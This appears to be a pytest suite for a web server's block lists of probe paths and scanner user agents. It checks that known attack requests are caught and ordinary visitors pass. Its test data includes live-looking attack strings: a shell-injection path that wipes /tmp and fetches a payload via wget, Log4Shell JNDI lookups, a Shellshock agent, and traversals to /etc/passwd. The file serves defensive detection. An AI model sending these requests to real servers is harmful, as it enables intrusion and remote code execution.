"""The lists of probes: well-formed, without a useless entry, and harmless to ordinary visitors."""

from __future__ import annotations

import fnmatch
import itertools
import re
from pathlib import Path
from urllib.parse import quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

LISTS = Path(__file__).parent.parent / "filters" / "lists"
NAMES = ("probe-paths", "probe-agents")


def lines(name: str) -> list[str]:
    """Give every line of a list."""
    return (LISTS / f"{name}.txt").read_text(encoding="ascii").splitlines()


def entries(name: str) -> list[str]:
    """Give the globs of a list."""
    return [line for line in lines(name) if line and not line.startswith("#")]


PATHS = entries("probe-paths")
AGENTS = entries("probe-agents")


def machine(globs: list[str]) -> re.Pattern[str]:
    """Give what matches any of ``globs``, which hold no bracket, in lower-cased text."""
    return re.compile("|".join(fnmatch.translate(glob.lower()) for glob in globs))


PROBED = machine(PATHS)
SCANNING = machine(AGENTS)


def is_probe(target: str) -> bool:
    """Say whether a request target is in the list."""
    return PROBED.match(target.lower()) is not None


def is_scanner(agent: str) -> bool:
    """Say whether a user agent is in the list."""
    return SCANNING.match(agent.lower()) is not None


def swallowed(globs: list[str]) -> list[tuple[str, str]]:
    """Give (entry, other) where whatever ``entry`` matches is matched by ``other`` as well.

    A wildcard is replaced by characters that stand in no entry, which only another wildcard takes.
    """
    found = []
    one = [(glob, machine([glob])) for glob in globs]
    for (narrow, _), (wide, matcher) in itertools.permutations(one, 2):
        forms = (narrow.replace("?", "\0").replace("*", "\0" * n) for n in (0, 1, 9))
        if all(matcher.match(form) for form in forms):
            found.append((narrow, wide))
    return found


# What browsers, crawlers, feed readers, phones, mounted folders and the users of well-known
# software ask of a site, found there or not.
ORDINARY_TARGETS = """
/
/?
/index.html
/index.php
/index.php?id=12
/about
/about/
/contact.php
/search?q=fish
/search?q=%2Fetc%2Fpasswd
/?s=php+info
/favicon.ico
/favicon.png
/favicon-32x32.png
/robots.txt
/ads.txt
/app-ads.txt
/sellers.json
/humans.txt
/security.txt
/llms.txt
/sitemap.xml
/sitemap_index.xml
/sitemap.xml.gz
/wp-sitemap.xml
/crossdomain.xml
/clientaccesspolicy.xml
/browserconfig.xml
/manifest.json
/site.webmanifest
/service-worker.js
/sw.js
/opensearch.xml
/apple-touch-icon.png
/apple-touch-icon-120x120-precomposed.png
/apple-touch-icon-precomposed.png
/apple-app-site-association
/.well-known/apple-app-site-association
/.well-known/assetlinks.json
/.well-known/acme-challenge/dGhpcyBpcyBhIHRva2Vu
/.well-known/pki-validation/fileauth.txt
/.well-known/security.txt
/.well-known/change-password
/.well-known/openid-configuration
/.well-known/oauth-authorization-server
/.well-known/traffic-advice
/.well-known/webfinger?resource=acct:anna@example.com
/.well-known/nodeinfo
/.well-known/host-meta
/.well-known/matrix/client
/.well-known/caldav
/.well-known/carddav
/.well-known/mta-sts.txt
/.well-known/dnt-policy.txt
/.well-known/gpc.json
/.well-known/passkey-endpoints
/.DS_Store
/dav/._report.odt
/.hidden
/.directory
/.Trash-1000/files
/desktop.ini
/Thumbs.db
/autorun.inf
/MSOffice/cltreq.asp?UL=1&ACT=4&BUILD=2614
/_vti_bin/owssvr.dll?UL=1&ACT=4&BUILD=2614
/_vti_inf.html
/META-INF/services/javax.xml.parsers.SAXParserFactory
/feed
/feed/
/feed.xml
/rss
/rss.xml
/rss2.xml
/atom.xml
/index.rdf
/comments/feed/
/wp-login.php
/wp-login.php?action=register
/wp-login.php?redirect_to=https%3A%2F%2Fwww.example.com%2Fwp-admin%2F&reauth=1
/wp-admin/
/wp-admin/index.php
/wp-admin/admin-ajax.php
/wp-admin/admin-ajax.php?action=heartbeat
/wp-admin/post.php?post=12&action=edit
/wp-admin/plugins.php
/wp-admin/load-styles.php?c=1&dir=ltr&load%5Bchunk_0%5D=dashicons
/wp-cron.php?doing_wp_cron=1700000000.1
/wp-comments-post.php
/wp-includes/js/jquery/jquery.min.js?ver=3.7.1
/wp-includes/wlwmanifest.xml
/wp-content/themes/twentytwentyfive/style.css?ver=1.2
/wp-content/uploads/2026/02/team.jpg
/wp-content/plugins/contact-form-7/includes/js/index.js?ver=6.0
/wp-content/plugins/woocommerce/readme.txt
/wp-content/plugins/akismet/_inc/akismet.js
/wp-json/
/wp-json/wp/v2/posts?per_page=5
/wp-json/wp/v2/users/me
/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fwww.example.com%2F
/xmlrpc.php
/xmlrpc.php?rsd
/?author=1
/?p=123
/?page_id=2
/2026/02/14/how-to-protect-wp-config-php/
/wp-config-explained/
/tag/phpmyadmin/
/blog/what-is-log4shell
/blog/env-files-in-docker/
/blog/git-config-tips
/cgi-bin/awstats.pl?config=www.example.com
/cgi-bin/mailman/listinfo
/cgi-bin/cvsweb.cgi/src/
/cgi-bin/man.cgi?query=sh&sektion=1
/cgi-bin/bugreport.cgi?bug=1000
/cgi-bin/search.cgi?q=shell
/cgi-sys/defaultwebpage.cgi
/node/1
/user
/user/login
/user/login?destination=node/1
/user/register
/user/register?element_parents=user_picture/widget/0&ajax_form=1
/?q=node/1
/?q=user/password&name=anna
/core/misc/drupal.js?v=11.1
/sites/default/files/styles/large/public/photo.jpg
/update.php
/install.php
/administrator/
/administrator/index.php
/index.php?option=com_content&view=article&id=1
/index.php?option=com_users&view=login
/media/system/js/core.min.js
/wiki/Main_Page
/w/index.php?title=Special:Search&search=shell
/w/index.php?title=Talk:Config.php&action=edit
/w/load.php?lang=en&modules=startup&only=scripts
/w/api.php?action=query&format=json
/w/rest.php/v1/search/title?q=git
/mw-config/
/index.php/login
/index.php/apps/files/
/index.php/s/Fq2kTtYx
/remote.php/dav/files/anna/notes.txt
/remote.php/webdav/.env
/status.php
/ocs/v2.php/cloud/capabilities?format=json
/ocs/v2.php/apps/notifications/api/v2/notifications
/t/how-do-i-read-etc-passwd/1234
/latest.json?order=created
/session/csrf
/message-bus/0123456789abcdef/poll
/u/anna.json
/users/sign_in
/users/sign_in?redirect_to_referer=yes
/explore/repos
/alice/site.git/info/refs?service=git-upload-pack
/alice/site/info/refs?service=git-upload-pack
/alice/site/-/blob/main/.env.example
/alice/site/-/raw/main/docker/.env
/alice/site/-/blob/main/wp-config.php
/alice/site/-/merge_requests/1.json
/alice/site/src/branch/main/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/alice/site/src/commit/0123abcd/.htaccess
/alice/site/tree/master/.aws/credentials
/cgit/site.git/tree/scripts/setup.php
/gitweb/?p=site.git;a=blob;f=.env.sample
/phpmyadmin/
/phpmyadmin/index.php
/phpMyAdmin/index.php?route=/database/structure&db=shop
/phpmyadmin/themes/pmahomme/img/logo_left.png
/pma/
/server-status
/server-status?auto
/nginx_status
/manager/html
/jenkins/login?from=%2Fjenkins%2F
/jenkins/job/build/1/console
/jenkins/descriptorByName/hudson.model.Job/checkName?value=x
/actuator/health
/actuator/info
/actuator/prometheus
/metrics
/health
/healthz
/login.action?os_destination=%2Findex.action
/pages/viewpage.action?pageId=1
/display/DOC/Home
/secure/Dashboard.jspa
/s/1a2b3c/_/download/batch/com.example/batch.css
/struts/utils.js
/owa/
/owa/auth/logon.aspx?replaceCurrent=1&url=https%3A%2F%2Fmail.example.com%2Fowa%2F
/ecp/
/Microsoft-Server-ActiveSync?User=anna&DeviceId=1&DeviceType=iPhone&Cmd=Sync
/autodiscover/autodiscover.xml
/Autodiscover/Autodiscover.xml
/autodiscover/autodiscover.json/v1.0/anna@example.com?Protocol=ActiveSync
/autodiscover/autodiscover.json?Email=anna%40example.com&Protocol=AutodiscoverV1
/mail/config-v1.1.xml?emailaddress=anna%40example.com
/EWS/Exchange.asmx
/mapi/emsmdb/?MailboxId=1
/rpc/rpcproxy.dll?mail.example.com:6002
/roundcube/?_task=mail&_mbox=INBOX
/roundcube/skins/elastic/styles/styles.min.css
/zabbix/index.php
/cacti/graph_view.php
/grafana/public/build/app.js
/grafana/api/datasources/proxy/1/api/v1/query?query=up
/kibana/app/discover
/geoserver/wms?service=WMS&request=GetCapabilities
/matomo.php?action_name=a&url=https%3A%2F%2Fwww.example.com%2F.env&idsite=1
/api/v1/users
/api/v1/namespaces/default/workflows
/api/v2/items?filter=name%3Dx
/graphql?query=%7Buser%7Bid%7D%7D
/oauth/authorize?client_id=1&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb
/config.json
/config.js
/env.js
/appsettings.json
/package.json
/docker-compose.yml
/assets/env-3f2a.js
/static/js/main.0a1b2c3d.js
/static/js/main.0a1b2c3d.js.map
/css/print.css?v=2
/images/logo@2x.png
/images/..%20old/logo.png
/downloads/backup-tool-2.1.zip
/downloads/site.tar.gz
/fonts/fa-solid-900.woff2
/ckeditor/ckeditor.js
/fckeditor/editor/fckeditor.html?InstanceName=body&Toolbar=Default
/forum/viewtopic.php?f=2&t=3
/forum/index.php?s=0123456789abcdef
/?s=thinkpad
/index.php?s=thinking+about+index
/design-thinking/request/input
/thinkpad/file/write-protection
/telescope/requests
/sdk
/sdk/download
/shell/
/shells.html
/shell-scripting?chapter=cd
/level/15
/console/
/setup
/language/sv
/$%7Burl%7D
/%24%7Burl%7D
/blog/%22$%7BWEBLOC%7D%22
/scripts/app.js
/scripts/setup.js
/admin.php
/admin/
/admin/login
/admin/config.php
/upload/
/upload/photo.jpg
/cart?add=12
/product.do?id=7
/account/login.action
/remote/login?lang=en
/global-protect/login.esp
/+CSCOE+/logon.html
http://www.example.com/
http://www.example.com:80/news?page=2
*
""".strip().splitlines()

ORDINARY_AGENTS = """
-
Mozilla/5.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:136.0) Gecko/20100101 Firefox/136.0
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/134.0.0.0 Safari/537.36
Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/18.3 Safari/605.1.15
Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148
Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)
Mozilla/5.0 (X11; FreeBSD amd64; rv:128.0) Gecko/20100101 Firefox/128.0
Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)
Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)
Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)
Mozilla/5.0 (compatible; W3C_Validator/1.3; +http://validator.w3.org/services)
check_http/v2.4 (monitoring-plugins 2.4)
curl/8.12.1
Wget/1.25.0
libwww-perl/6.77
python-requests/2.32.3
Python-urllib/3.12
python-httpx/0.28.1
Go-http-client/1.1
okhttp/4.12.0
Java/21.0.6
axios/1.7.9
node-fetch/1.0
fetch libfetch/2.0
git/2.48.1
Lynx/2.9.2 libwww-FM/2.14
w3m/0.5.3+git20230121
Dalvik/2.1.0 (Linux; U; Android 15; Pixel 9)
FeedBurner/1.0 (http://www.FeedBurner.com)
Tiny Tiny RSS/24.01 (https://tt-rss.org/)
WordPress/6.7.2; https://blog.example.com
Mozilla/5.0 (Macintosh) mirall/3.15.3 (build 4) (Nextcloud)
Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0; Pro)
Microsoft-WebDAV-MiniRedir/10.0.19045
gvfs/1.56.1
Let's Encrypt validation server; +https://www.letsencrypt.org
facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
Twitterbot/1.0
Safari/21621.1 CFNetwork/3826 Darwin/24.4.0
""".strip().splitlines()

FOUNDING_TARGETS = (
    "/scripts/upload/upload-submit.do",
    "/admin/define.inc.php?match=http://xxxx./",
    "/cgi-bin/upload/upload-submit.do",
    "/upload/upload-submit.do",
    "/.anydomain.test",
    "/axis/DirectDownload.jsp",
)

SCANNED_TARGETS = (
    "/HNAP1/",
    "/.env",
    "/.env.production",
    "/api/.env",
    "/.git/config",
    "/shop/.git/HEAD",
    "/.aws/credentials",
    "/wp-config.php.bak",
    "/phpMyAdmin/scripts/setup.php",
    "/w00tw00t.at.blackhats.romanian.anti-sec:)",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin?username=ec8&psd=ec8",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.80/x;sh+/tmp/x",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    r"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
    r"/?s=/Index/\x5Cthink\x5Capp/invokefunction&function=phpinfo",
    "/index.action?redirect:${7*7}",
    "/?x=${jndi:ldap://192.0.2.80/a}",
    "/$%7Bjndi:ldap://192.0.2.80/a%7D",
    "/actuator/gateway/routes",
    "/solr/admin/info/system?wt=json",
    "/jmx-console/HtmlAdaptor",
    "/invoker/readonly",
    "/autodiscover/autodiscover.json?@example.com/powershell?X=1",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
    "/vpn/../vpns/cfg/smb.conf",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/cgi-bin/php5?%2D%64+%61%6C%6C%6F%77",
    "/index.php?page=../../../../../../etc/passwd",
    "/blog/a.html/admin/FCKeditor/_samples/default.html",
    "/c/winnt/system32/cmd.exe?/c+dir",
    "http://azenv.net/",
)

SCANNING_AGENTS = (
    "Fastream NETFile Server",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.9#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "() { :; }; /bin/bash -c id",
    "${jndi:ldap://192.0.2.80/a}",
    "Hello, World",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_list_is_lower_case_ascii_without_stray_blanks(name: str) -> None:
    for number, line in enumerate(lines(name), 1):
        assert line == line.strip(), f"line {number} has a blank at its start or end"
        assert line.startswith("#") or line == line.lower(), f"line {number} is not lower-cased"
        assert line.isprintable(), f"line {number} holds a control character"
        assert len(line) <= 100, f"line {number} is too long to read"


@pytest.mark.parametrize("name", NAMES)
def test_every_group_has_a_heading(name: str) -> None:
    groups = "\n".join(lines(name)).split("\n\n")
    assert len(groups) >= 5
    for group in groups:
        first = group.splitlines()[0]
        assert re.match(r"# \S", first), f"a group starts with {first!r}; expected a heading"
    headings = [group.splitlines()[0] for group in groups]
    assert len(headings) == len(set(headings))


@pytest.mark.parametrize("name", NAMES)
def test_no_entry_stands_twice(name: str) -> None:
    seen = [entry.lower() for entry in entries(name)]
    assert sorted(seen) == sorted(set(seen))


@pytest.mark.parametrize("name", NAMES)
def test_no_entry_is_swallowed_by_another(name: str) -> None:
    assert swallowed(entries(name)) == []


def test_the_search_for_swallowed_entries_finds_them() -> None:
    globs = ["/a*", "/ab", "/b?", "/bc", "/c?*", "/c*d", "/d*", "*e"]
    assert swallowed(globs) == [("/ab", "/a*"), ("/bc", "/b?"), ("/c*d", "/c?*")]


@pytest.mark.parametrize("name", NAMES)
def test_no_entry_holds_what_globs_elsewhere_read_differently(name: str) -> None:
    for entry in entries(name):
        assert not re.search(r"[\[\]\\\"]|\*\*", entry), entry


@pytest.mark.parametrize("name", NAMES)
def test_comparing_takes_no_more_than_the_length_of_the_line(name: str) -> None:
    """With two stars before the last fixed part, every place of one is tried with every other."""
    for entry in entries(name):
        assert entry.rstrip("*").count("*") <= 1, entry


def test_the_lists_have_the_size_that_was_meant() -> None:
    assert 250 <= len(PATHS) <= 400
    assert 40 <= len(AGENTS) <= 100


def test_a_path_entry_starts_where_a_request_target_starts() -> None:
    for entry in PATHS:
        assert entry.startswith(("/", "*", "http://")), entry


def test_a_path_entry_has_enough_characters_of_its_own() -> None:
    for entry in PATHS:
        assert len(entry.strip("*/?")) >= 3, f"{entry} is too short to be of one product alone"


@pytest.mark.parametrize("target", FOUNDING_TARGETS)
def test_the_founding_targets_are_covered(target: str) -> None:
    assert is_probe(target)


@pytest.mark.parametrize("target", SCANNED_TARGETS)
def test_a_known_probe_is_covered(target: str) -> None:
    assert is_probe(target)


def test_the_table_of_ordinary_targets_is_long_enough_to_mean_something() -> None:
    assert len(set(ORDINARY_TARGETS)) == len(ORDINARY_TARGETS)
    assert len(ORDINARY_TARGETS) >= 150


def test_an_ordinary_target_is_in_no_entry() -> None:
    assert [target for target in ORDINARY_TARGETS if is_probe(target)] == []


def test_an_entry_that_matches_below_any_page_holds_a_sign_of_attack() -> None:
    """No link, no file of a repository and no form that encodes its fields has such a sign."""
    signs = re.compile(
        r"\.\./|\$\{|\$%7b|%7bjndi:|%2e%2e/|\.\.%2fetc/passwd|;wget|;curl|;cd|\|wget|=[a-z]+://|=file:///"
        r"|/\.git/|cmd\.exe\?/c|\?-d\+|\?%2dd\+|\?%add\+|_path=|pattern=|invokefunction&"
        r"|\.(action|do)\?|\.html/([a-z]+/)?fckeditor/"
    )
    for entry in PATHS:
        if entry.startswith(("*", "/*")):
            assert signs.search(entry), entry


@pytest.mark.parametrize("root", ["/alice/site/src/branch/main", "/alice/site/-/blob/main"])
def test_a_site_that_shows_source_code_has_no_probe_in_it(root: str) -> None:
    """A crawler of a code hosting site meets every file name that there is."""
    anywhere = machine([entry for entry in PATHS if entry.startswith(("*", "/*"))])
    files = [entry.replace("*", "x") for entry in PATHS if entry.startswith("/")]
    files = [file for file in files if not anywhere.match(file)]
    assert len(files) > 300
    assert [file for file in files if is_probe(root + file)] == []


@pytest.mark.parametrize("wildcard", ["", "x", "/x"])
@pytest.mark.parametrize("page", ["/search?q=", "/?s=", "/index.php?s=", "/?q="])
def test_a_visitor_may_search_the_site_for_any_entry(page: str, wildcard: str) -> None:
    """A search form encodes what it is given: a reader who looks up a hole is no scanner."""
    searches = [page + quote_plus(entry.replace("*", wildcard)) for entry in PATHS]
    assert [search for search in searches if is_probe(search)] == []


@given(st.text(), st.sampled_from(PATHS), st.text())
def test_whatever_a_visitor_types_into_a_search_form_is_no_probe(
    before: str, entry: str, after: str
) -> None:
    typed = quote_plus(before + entry + after, errors="surrogatepass")
    assert not is_probe(f"/search?q={typed}&page=2")


@given(st.sampled_from(FOUNDING_TARGETS + SCANNED_TARGETS), st.data())
def test_case_hides_no_probe(target: str, data: st.DataObject) -> None:
    upper = data.draw(st.lists(st.booleans(), min_size=len(target), max_size=len(target)))
    mixed = (
        letter.upper() if up else letter.lower() for letter, up in zip(target, upper, strict=True)
    )
    assert is_probe("".join(mixed))


@pytest.mark.parametrize("agent", SCANNING_AGENTS)
def test_a_known_scanner_is_covered(agent: str) -> None:
    assert is_scanner(agent)


def test_an_ordinary_agent_is_in_no_entry() -> None:
    assert len(ORDINARY_AGENTS) >= 40
    assert [agent for agent in ORDINARY_AGENTS if is_scanner(agent)] == []
